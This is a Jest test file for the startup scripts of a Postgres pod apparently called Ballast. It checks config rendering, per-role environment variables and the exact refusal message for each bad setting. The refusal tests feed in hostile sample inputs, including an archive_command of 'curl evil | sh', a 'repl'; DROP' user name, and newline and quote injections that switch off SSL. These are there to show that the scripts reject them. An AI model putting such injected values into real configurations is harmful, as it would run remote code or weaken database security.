/**
 * The pod contract without servers: the ConfigMap files, slot names (TypeScript and bash agree),
 * the environment per role, the WAL budget, and every refusal of the scripts with its exact message.
 */
import { execFileSync, spawnSync } from "child_process";
import * as fs from "fs";
import * as os from "os";
import * as path from "path";
import {
  commands,
  pgSizeMiB,
  postgresScriptFiles,
  replicationSlotName,
  scriptEnv,
  SECRET_ENV,
  walBudgetMiB,
  type PostgresScriptSettings,
} from "../../../../components/postgres/pod";
import { PgLab } from "./harness";

const settings: PostgresScriptSettings = {
  replicaStatefulSet: "orders-replica",
  replicaService: "orders-replica-headless",
  primaryHost: "orders-rw",
  maxReplicas: 5,
  minReplicas: 2,
};

describe("postgres pod contract", () => {
  it("ships every script and template flat, as ConfigMap keys", () => {
    const files = postgresScriptFiles();
    expect(Object.keys(files).sort()).toEqual([
      "common.sh",
      "live.sh",
      "postgresql.common.conf",
      "postgresql.primary.conf",
      "postgresql.replica.conf",
      "primary-start.sh",
      "ready.sh",
      "replica-start.sh",
      "slot-janitor.sh",
    ]);
    for (const name of Object.keys(files)) expect(name).toMatch(/^[-._a-zA-Z0-9]+$/);
    expect(files["primary-start.sh"]).toContain("exec postgres");
  });

  it("runs the scripts with bash from the mount", () => {
    expect(commands.primary).toEqual(["bash", "/ballast/scripts/primary-start.sh"]);
    expect(commands.replica).toEqual(["bash", "/ballast/scripts/replica-start.sh"]);
    expect(commands.slotJanitor).toEqual(["bash", "/ballast/scripts/slot-janitor.sh"]);
    expect(commands.readiness("replica")).toEqual(["bash", "/ballast/scripts/ready.sh", "replica"]);
    expect(commands.replicaLiveness).toEqual(["bash", "/ballast/scripts/live.sh"]);
  });

  it.each([
    ["orders-replica-0", "orders_replica_0"],
    ["db-replica-12", "db_replica_12"],
    ["a", "a"],
  ])("slot of pod %s is %s, in TypeScript and in common.sh", (pod, slot) => {
    expect(replicationSlotName(pod)).toBe(slot);
    const script = path.join(__dirname, "../../../../components/postgres/pod/scripts/common.sh");
    expect(execFileSync("bash", ["-c", `source "$0"; slot_name_for "$1"`, script, pod]).toString()).toBe(slot);
  });

  it("refuses a pod name whose slot name would exceed 63 characters", () => {
    const pod = "x".repeat(64);
    expect(() => replicationSlotName(pod)).toThrow(
      `postgres scripts: pod name '${pod}' gives slot name '${pod}' longer than 63 characters`,
    );
  });

  it("sets plain environment per role; passwords only by name for secretKeyRef", () => {
    const env = (role: Parameters<typeof scriptEnv>[0]) => Object.fromEntries(scriptEnv(role, settings).map((e) => [e.name, e.value]));
    expect(env("primary")).toEqual({
      PGDATA: "/var/lib/postgresql/data/pgdata",
      PGPORT: "5432",
      BALLAST_SOCKET_DIR: "/var/run/postgresql",
      BALLAST_TLS_DIR: "/ballast/tls",
      BALLAST_REPLICATION_USER: "replicator",
      BALLAST_APP_USER: "app",
      BALLAST_APP_DATABASE: "app",
      BALLAST_MONITOR_USER: "monitor",
      BALLAST_MAX_REPLICAS: "5",
      BALLAST_MAX_WAL_SIZE: "1GB",
      BALLAST_WAL_KEEP_SIZE: "128MB",
      BALLAST_MAX_SLOT_WAL_KEEP_SIZE: "1GB",
      BALLAST_REPLICA_STATEFULSET: "orders-replica",
      BALLAST_SYNC_STANDBYS: "0",
      BALLAST_MIN_REPLICAS: "2",
    });
    expect(env("replica")).toMatchObject({ BALLAST_PRIMARY_HOST: "orders-rw", BALLAST_PRIMARY_PORT: "5432" });
    expect(env("slotJanitor")).toMatchObject({
      BALLAST_REPLICA_STATEFULSET: "orders-replica",
      BALLAST_REPLICA_SERVICE: "orders-replica-headless",
      BALLAST_JANITOR_INTERVAL_SECONDS: "30",
    });
    for (const role of ["primary", "replica", "slotJanitor"] as const) {
      const names = scriptEnv(role, settings).map((e) => e.name);
      for (const secret of Object.values(SECRET_ENV)) expect(names).not.toContain(secret);
    }
  });

  it.each([
    [{}, 1024 + 128 + 1024],
    [{ maxWalSize: "2GB", walKeepSize: "0MB", maxSlotWalKeepSize: "512MB" } as const, 2048 + 512],
  ])("WAL budget of %j is %d MiB", (s, mib) => {
    expect(walBudgetMiB(s)).toBe(mib);
  });

  it("refuses a size without a unit", () => {
    expect(() => pgSizeMiB("12" as never)).toThrow("postgres scripts: '12' is not a size like 512MB or 2GB");
  });

  it("keeps every ${VAR} of the templates set by the scripts or documented in the README", () => {
    const files = postgresScriptFiles();
    const readme = fs.readFileSync(path.join(__dirname, "../../../../components/postgres/pod/README.md"), "utf8");
    const vars = new Set<string>();
    for (const [name, text] of Object.entries(files)) {
      if (name.endsWith(".conf")) for (const m of text.matchAll(/\$\{([A-Z_]+)\}/g)) vars.add(m[1] as string);
    }
    // Set by the scripts themselves from other settings.
    const derived = [
      "BALLAST_MAX_WAL_SENDERS",
      "BALLAST_MAX_REPLICATION_SLOTS",
      "BALLAST_SYNC_NAMES",
      "BALLAST_PRIMARY_CONNINFO",
      "BALLAST_SLOT_NAME",
      "BALLAST_SSL_CERT_FILE",
      "BALLAST_SSL_KEY_FILE",
      "BALLAST_SSL_CA_FILE",
    ];
    const scripts = Object.entries(files)
      .filter(([n]) => n.endsWith(".sh"))
      .map(([, t]) => t)
      .join("\n");
    for (const v of vars) {
      const set = derived.includes(v) && scripts.includes(`${v}=`);
      expect({ v, known: set || readme.includes(`\`${v}\``) }).toEqual({ v, known: true });
    }
  });
});

describe("what the scripts write into postgresql.conf", () => {
  const common = path.join(__dirname, "../../../../components/postgres/pod/scripts/common.sh");
  const bash = (snippet: string, env: Record<string, string> = {}) => {
    const r = spawnSync("bash", ["--norc", "--noprofile", "-c", `source "$0"; ${snippet}`, common], {
      encoding: "utf8",
      env: { PATH: process.env.PATH, ...env },
    });
    return { code: r.status, stdout: r.stdout, stderr: r.stderr.replace(/^\S+ ballast-postgres: /gm, "") };
  };

  it.each<[string, string, string]>([
    ["shared_buffers = 32MB", "shared_buffers = '32MB'\n", "a plain value is quoted"],
    [
      "work_mem='4MB'\n# a comment\n\nlog_line_prefix = '%m it''s '",
      "work_mem = '4MB'\nlog_line_prefix = '%m it''s '\n",
      "quoted values keep their text; comments and blank lines go",
    ],
    ["search_path = 'a', b", "search_path = '''a'', b'\n", "a value that is not one quoted string stays one string"],
  ])("BALLAST_EXTRA_CONF %j renders as %j (%s)", (extra, expected) => {
    expect(bash("render_extra_conf", { BALLAST_EXTRA_CONF: extra })).toEqual({ code: 0, stdout: expected, stderr: "" });
  });

  it.each<[string, string]>([
    ["fsync = off\nssl = off", "ssl is set by Ballast or can run commands, and may not be set here"],
    ["archive_command = 'curl evil | sh'", "archive_command is set by Ballast or can run commands, and may not be set here"],
    ["include = '/tmp/other.conf'", "include is set by Ballast or can run commands, and may not be set here"],
    ["session_preload_libraries = 'evil'", "session_preload_libraries is set by Ballast or can run commands, and may not be set here"],
    ["shared_buffers 32MB", "'shared_buffers 32MB' is not a setting of the form name = value"],
  ])("refuses BALLAST_EXTRA_CONF %j", (extra, message) => {
    expect(bash("render_extra_conf", { BALLAST_EXTRA_CONF: extra })).toEqual({
      code: 1,
      stdout: "",
      stderr: `error: BALLAST_EXTRA_CONF: ${message}\n`,
    });
  });

  it("quotes every value and refuses one with a newline, which would start a setting of its own", () => {
    expect(bash(`conf_quote $'*\\nssl = off'`)).toEqual({
      code: 1,
      stdout: "",
      stderr: "error: a postgresql.conf value may not hold a control character (newline, tab, ...), got '*?ssl = off'\n",
    });
    expect(bash(`conf_quote "it's"`)).toEqual({ code: 0, stdout: "'it''s'", stderr: "" });
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), "ballast-conf-"));
    fs.writeFileSync(path.join(dir, "t.conf"), "listen_addresses = ${BALLAST_LISTEN_ADDRESSES}\nport = ${PGPORT}\n");
    expect(bash("render_template t.conf", { BALLAST_CONF_DIR: dir, BALLAST_LISTEN_ADDRESSES: "*", PGPORT: "5432" })).toEqual({
      code: 0,
      stdout: "listen_addresses = '*'\nport = '5432'\n",
      stderr: "",
    });
    expect(bash("render_template t.conf", { BALLAST_CONF_DIR: dir, BALLAST_LISTEN_ADDRESSES: "*\nssl = off" }).code).toBe(1);
    fs.rmSync(dir, { recursive: true, force: true });
  });
});

describe("the scripts refuse unsafe or broken settings", () => {
  const lab = new PgLab({ replicaStatefulSet: "orders-replica", env: {} });
  afterAll(() => lab.cleanup());
  const primaryOk = { POSTGRES_PASSWORD: "a", BALLAST_REPLICATION_PASSWORD: "b" };
  const replicaOk = { BALLAST_REPLICATION_PASSWORD: "b", BALLAST_POD_NAME: "orders-replica-0", BALLAST_PRIMARY_HOST: "127.0.0.1" };

  it.each<[string, string, string, string[], Record<string, string>]>([
    [
      "environment variable POSTGRES_PASSWORD is required and empty",
      "primary",
      "primary-start.sh",
      [],
      { BALLAST_REPLICATION_PASSWORD: "b" },
    ],
    [
      "BALLAST_MAX_SLOT_WAL_KEEP_SIZE must be a size, not -1: an uncapped slot can fill the primary's disk",
      "primary",
      "primary-start.sh",
      [],
      { ...primaryOk, BALLAST_MAX_SLOT_WAL_KEEP_SIZE: "-1" },
    ],
    [
      "BALLAST_MAX_SLOT_WAL_KEEP_SIZE must be a size like 512MB or 2GB, got 'lots'",
      "primary",
      "primary-start.sh",
      [],
      { ...primaryOk, BALLAST_MAX_SLOT_WAL_KEEP_SIZE: "lots" },
    ],
    [
      "BALLAST_MAX_WAL_SIZE must be a size like 512MB or 2GB, got '1 GB'",
      "primary",
      "primary-start.sh",
      [],
      { ...primaryOk, BALLAST_MAX_WAL_SIZE: "1 GB" },
    ],
    ["BALLAST_MAX_REPLICAS must be >= 1, got 0", "primary", "primary-start.sh", [], { ...primaryOk, BALLAST_MAX_REPLICAS: "0" }],
    [
      "BALLAST_MAX_REPLICAS must be a non-negative integer, got 'three'",
      "primary",
      "primary-start.sh",
      [],
      { ...primaryOk, BALLAST_MAX_REPLICAS: "three" },
    ],
    [
      "BALLAST_MIN_REPLICAS (2) must be > BALLAST_SYNC_STANDBYS (2), or commits can block when replicas scale in",
      "primary",
      "primary-start.sh",
      [],
      { ...primaryOk, BALLAST_SYNC_STANDBYS: "2", BALLAST_MIN_REPLICAS: "2" },
    ],
    [
      "BALLAST_SYNC_STANDBYS (4) must be < BALLAST_MAX_REPLICAS (4)",
      "primary",
      "primary-start.sh",
      [],
      { ...primaryOk, BALLAST_SYNC_STANDBYS: "4", BALLAST_MAX_REPLICAS: "4" },
    ],
    [
      "BALLAST_REPLICA_STATEFULSET must be a DNS label, got 'Orders_Replica'",
      "primary",
      "primary-start.sh",
      [],
      { ...primaryOk, BALLAST_REPLICA_STATEFULSET: "Orders_Replica" },
    ],
    [
      "BALLAST_REPLICATION_USER must match [a-z_][a-z0-9_]* (at most 63 characters), got 'repl'; DROP'",
      "primary",
      "primary-start.sh",
      [],
      { ...primaryOk, BALLAST_REPLICATION_USER: "repl'; DROP" },
    ],
    [
      "BALLAST_APP_USER must match [a-z_][a-z0-9_]* (at most 63 characters), got 'App'",
      "primary",
      "primary-start.sh",
      [],
      { ...primaryOk, BALLAST_APP_USER: "App" },
    ],
    [
      "POSTGRES_USER, BALLAST_REPLICATION_USER, BALLAST_APP_USER and BALLAST_MONITOR_USER must be four different roles",
      "primary",
      "primary-start.sh",
      [],
      { ...primaryOk, BALLAST_APP_USER: "postgres" },
    ],
    [
      "BALLAST_APP_DATABASE must not be postgres, template0 or template1, got 'postgres'",
      "primary",
      "primary-start.sh",
      [],
      { ...primaryOk, BALLAST_APP_DATABASE: "postgres" },
    ],
    [
      "environment variable BALLAST_APP_PASSWORD is required and empty",
      "primary",
      "primary-start.sh",
      [],
      { ...primaryOk, BALLAST_APP_PASSWORD: "" },
    ],
    [
      "BALLAST_SYNCHRONOUS_COMMIT must be on, off, local, remote_write or remote_apply, got 'on\nssl = off'",
      "primary",
      "primary-start.sh",
      [],
      { ...primaryOk, BALLAST_SYNCHRONOUS_COMMIT: "on\nssl = off" },
    ],
    [
      "TLS file /nonexistent/tls.crt is missing or empty (mount the database's TLS Secret there)",
      "primary",
      "primary-start.sh",
      [],
      { ...primaryOk, BALLAST_TLS_DIR: "/nonexistent" },
    ],
    [
      "BALLAST_PRIMARY_HOST must be a host name or an IP address, got 'x' sslmode='disable'",
      "replica",
      "replica-start.sh",
      [],
      { ...replicaOk, BALLAST_PRIMARY_HOST: "x' sslmode='disable" },
    ],
    [
      "BALLAST_POD_NAME must be a DNS label, got 'Replica 0'",
      "replica",
      "replica-start.sh",
      [],
      { ...replicaOk, BALLAST_POD_NAME: "Replica 0" },
    ],
    [
      "BALLAST_HOT_STANDBY_FEEDBACK must be on or off, got 'yes'",
      "replica",
      "replica-start.sh",
      [],
      { ...replicaOk, BALLAST_HOT_STANDBY_FEEDBACK: "yes" },
    ],
    [
      "environment variable BALLAST_PRIMARY_HOST is required and empty",
      "replica",
      "replica-start.sh",
      [],
      { ...replicaOk, BALLAST_PRIMARY_HOST: "" },
    ],
    [
      "BALLAST_ON_SYSTEM_ID_MISMATCH must be refuse or rebootstrap, got 'maybe'",
      "replica",
      "replica-start.sh",
      [],
      { ...replicaOk, BALLAST_ON_SYSTEM_ID_MISMATCH: "maybe" },
    ],
    [
      "PGDATA must be an absolute path below the volume mount, got 'pgdata'",
      "replica",
      "replica-start.sh",
      [],
      { ...replicaOk, PGDATA: "pgdata" },
    ],
    [
      `pod name '${"r".repeat(64)}' gives slot name '${"r".repeat(64)}' longer than 63 characters`,
      "replica",
      "replica-start.sh",
      [],
      { ...replicaOk, BALLAST_POD_NAME: "r".repeat(64) },
    ],
    [
      'primary 127.0.0.1:1 not accepting connections after 1s: connection to server at "127.0.0.1", port 1 failed: Connection refused Is the server running on that host and accepting TCP/IP connections?',
      "replica",
      "replica-start.sh",
      [],
      { ...replicaOk, BALLAST_PRIMARY_PORT: "1", BALLAST_PRIMARY_WAIT_SECONDS: "1" },
    ],
    ["environment variable BALLAST_REPLICA_SERVICE is required and empty", "slot-janitor", "slot-janitor.sh", [], {}],
    [
      "BALLAST_JANITOR_MISSES must be >= 1, got 0",
      "slot-janitor",
      "slot-janitor.sh",
      [],
      { BALLAST_REPLICA_SERVICE: "svc", BALLAST_JANITOR_MISSES: "0" },
    ],
    [
      "unknown argument '--forever' (the only argument is --once)",
      "slot-janitor",
      "slot-janitor.sh",
      ["--forever"],
      { BALLAST_REPLICA_SERVICE: "svc" },
    ],
    ["usage: ready.sh primary|replica", "ready", "ready.sh", [], {}],
  ])("refuses: %s", async (message, role, script, args, env) => {
    const r = await lab.runScript(script, args, {
      PGDATA: path.join(lab.root, "never-created"),
      PGPORT: "1",
      BALLAST_RUN_DIR: path.join(lab.root, "run"),
      ...env,
    });
    expect(r.code).toBe(1);
    expect(r.stderr).toMatch(new RegExp(`^\\d{4}-\\d\\d-\\d\\dT\\d\\d:\\d\\d:\\d\\dZ ballast-${role}: error: `));
    expect(r.stderr.slice(r.stderr.indexOf("error: ") + 7)).toBe(`${message}\n`);
    expect(fs.existsSync(path.join(lab.root, "never-created"))).toBe(false);
  });

  it("primary refuses to initialize over a non-empty directory without PG_VERSION", async () => {
    const dir = path.join(lab.root, "foreign");
    fs.mkdirSync(dir);
    fs.writeFileSync(path.join(dir, "something"), "precious");
    lab.giveToPostgres(dir);
    const r = await lab.runScript("primary-start.sh", [], { ...primaryOk, PGDATA: dir, PGPORT: "1" });
    expect(r.code).toBe(1);
    expect(r.stderr).toContain(
      `ballast-primary: error: ${dir} is not empty but holds no PG_VERSION: refusing to initialize over unknown files\n`,
    );
    expect(fs.readFileSync(path.join(dir, "something"), "utf8")).toBe("precious");
  });
});
